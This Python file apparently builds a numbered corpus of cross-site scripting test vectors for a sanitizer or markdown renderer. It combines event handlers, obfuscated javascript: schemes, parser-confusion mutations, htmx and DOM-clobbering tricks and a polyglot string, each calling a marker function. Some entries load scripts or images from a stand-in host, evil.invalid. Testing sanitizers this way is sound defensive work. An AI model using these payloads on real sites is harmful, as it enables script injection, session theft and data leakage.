"""Ways to make a browser run a script, put together from their parts: `ran(7)` says which one succeeded.

A technique is one line here; its spellings, schemes and hiding places multiply it.
"""

from itertools import count

# What runs by itself, or when somebody points at it.
EVENTS = (
    "img src=x onerror",
    "img src=x:x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "input autofocus onfocus",
    "textarea autofocus onfocus",
    "select autofocus onfocus",
    "details open ontoggle",
    "iframe src=about:blank onload",
    "object data=x: onerror",
    "style onload",
    "marquee onstart",
    "a href=# onmouseover",
    "p tabindex=1 onfocus",
    "x contenteditable onpointerover",
    "image src=x onerror",
    "table background=x onmouseenter",
    "link rel=stylesheet href=x: onerror",
    "math onmouseover",
    "button popovertarget=p onmousemove",
    "dialog open onfocusin",
)
SPELLINGS = (
    "<{tag}={js}>",
    '<{tag}="{js}">',
    "<{tag}='{js}'>",
    "<{tag}={js} ",
    "<<{tag}={js}>//<",
    "<{TAG}={js}>",
    "<{tag}\n=\n{js}>",
    "<{slashed}={js}>",
    "&lt;{tag}={js}&gt;",
    "&#60;{tag}={js}&#x3e;",
    "\\<{tag}={js}\\>",
    '"><{tag}={js}>',
    "--><{tag}={js}>",
    "`<{tag}={js}>",
    "[a](<{tag}={js}>)",
    "![<{tag}={js}>](x)",
    "<{tag}={js}//",
)
# How `javascript:` is written so that a filter does not know it and a browser does.
SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "&#106;avascript:{js}",
    "&#x6A&#x61vascript:{js}",
    "java&Tab;script:{js}",
    "java&NewLine;script:{js}",
    "javascript&colon;{js}",
    "&#1;javascript:{js}",
    "\tjavascript:{js}",
    " javascript:{js}",
    "javascript:/*--></title>*/{js}",
    "javascript://%0a{js}",
    "%6aavascript:{js}",
    "java\u200bscript:{js}",
    "javaſcript:{js}",
    "data:text/html,<script>top.{js}</script>",
    "data:image/svg+xml,<svg onload={js}>",
    "vbscript:{js}",
    "feed:javascript:{js}",
    "view-source:javascript:{js}",
    "blob:javascript:{js}",
    "java\\script:{js}",
)
PLACES = (
    "[a]({url})",
    "[a](<{url}>)",
    "<{url}>",
    "[a][{n}]\n\n[{n}]: {url}",
    "![a]({url})",
    '[a]({url} "t")',
    "[![a]({url})]({url})",
    '<a href="{url}">a</a>',
    "<a href='{url}'>a</a>",
    '<iframe src="{url}"></iframe>',
    '<form action="{url}"><button>a</button></form>',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<svg><a xlink:href="{url}"><text y=9>a</text></a></svg>',
    '<math><mi xlink:href="{url}">a</mi></math>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<area href="{url}">',
    '<input type=submit formaction="{url}">',
    '<a href="{url}" target=_self download>a</a>',
)
# Where a parser and a browser disagree about what is text and what is not.
HIDING = (
    "<script>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script>{js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<textarea><p title="</textarea><img src=x onerror={js}>">',
    '<title><p title="</title><img src=x onerror={js}>">',
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    '<noembed><p title="</noembed><img src=x onerror={js}>">',
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<math><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<!--<img src='--><img src=x onerror={js}//'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img src=x onerror={js}>'>",
    '<iframe srcdoc="<img src=x onerror=top.{js}>"></iframe>',
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?x <img src=x onerror={js}>?>",
    "<template><img src=x onerror={js}></template>",
    "<table><td background=x><img src=x onerror={js}>",
    "<plaintext><img src=x onerror={js}>",
    "```html\n<img src=x onerror={js}>\n```",
    '```"><img src=x onerror={js}>\na\n```',
    "`` <img src=x onerror={js}> ``",
    "| <img src=x onerror={js}> | b |\n|---|---|\n| <svg onload={js}> | c |",
    "# <img src=x onerror={js}>",
    "> <img src=x onerror={js}>",
    "1. <img src=x onerror={js}>",
    "- [ ] <img src=x onerror={js}>",
    "    <img src=x onerror={js}>",
    "**<img src=x onerror={js}>**",
    '[a](https://ok.invalid "\\" onmouseover=\\"{js}")',
    "[a](https://ok.invalid '\"onmouseover=\"{js}')",
    '[a](x"onmouseover={js}//)',
    '[a](https://ok.invalid/"onmouseover="{js})',
    '![" onerror={js} ](x)',
    '![a](x "\\" onerror=\\"{js}")',
    '[a](#"onclick={js})',
    "[" * 200 + "<img src=x onerror={js}>" + "]" * 200,
    "*" * 99 + "<img src=x onerror={js}>",
    "<" * 99 + "img src=x onerror={js}>",
    "<style>@import 'data:text/css,*{{x:expression({js})}}'</style>",
    "<p style='x:expression({js});behavior:url(x)'>a</p>",
    "<p style=\"background:url('javascript:{js}')\">a</p>",
    "<style>*{{background:url(//evil.invalid/{n})}}</style>",
    "<div hx-on:click='{js}' hx-on::load='{js}'>a</div>",
    "<div hx-get=//evil.invalid/{n} hx-trigger=load>a</div>",
    "<div data-hx-trigger='load[{js}]' data-hx-get=/>a</div>",
    "<b hx-vals='js:{{a:{js}}}' hx-post=/theme/ hx-trigger=load>a</b>",
    "<img src=//evil.invalid/{n}.gif>",
    "![a](https://evil.invalid/{n}.gif)",
    "<link rel=stylesheet href=//evil.invalid/{n}>",
    "<link rel=preload as=script href=//evil.invalid/{n}>",
    "<script src=//evil.invalid/{n}></script>",
    "<base href=//evil.invalid/>",
    "<video poster=//evil.invalid/{n}>",
    "<iframe src=//evil.invalid/{n}></iframe>",
    "<svg><image href=//evil.invalid/{n} /></svg>",
    "<form id=htmx name=ran><input name=attributes></form>",
    "<a id=hits name=hits>a</a><a id=hits name=push href=x>b</a>",
    "<img name=getElementById><img name=querySelector><form name=forms>",
    "{{{{ {js} }}}} {{% include 'x' %}} ${{{js}}} <%= {js} %>",
    "<sCrIpT>{js}</ScRiPt>",
    "<ſcript>{js}</ſcript>",
    "＜img src=x onerror={js}＞",
    "%3Cimg src=x onerror={js}%3E",
    "\\u003cimg src=x onerror={js}\\u003e",
    "<img src=x onerror=&#114;&#97;&#110;({n})>",
    "<img src=x onerror=\\u0072an({n})>",
    "<img src=x onerror=window['r'+'an']({n})>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload={js}>'>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text y=9>a</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
)


def _numbered() -> list[str]:
    """Every spelling with one event and every event in a few spellings; every scheme in every other place."""
    numbers, found = count(1), []

    def add(template: str, **parts: str) -> None:
        n = str(next(numbers))
        js = f"ran({n})"
        found.append(
            template.format(js=js, n=n, **{key: part.replace("{js}", js) for key, part in parts.items()})
        )

    for one, spelling in [(EVENTS[0], s) for s in SPELLINGS] + [
        (e, s) for e in EVENTS[1:] for s in SPELLINGS[:3]
    ]:
        add(spelling, tag=one, TAG=one.upper(), slashed=one.replace(" ", "/"))
    for at, place in enumerate(PLACES):
        for scheme in SCHEMES[at % 2 :: 2] if at else SCHEMES:
            add(place, url=scheme)
    for hidden in HIDING:
        add(hidden)
    return found


VECTORS = _numbered()
# For places that take a line: it leaves an attribute, a text, a comment, a script and a style at once.
POLYGLOT = """'"--></title></style></script><img src=x onerror=ran(9001)><svg onload=ran(9002)>"""
SCRIPT_LINK = "javascript:ran(9003)"
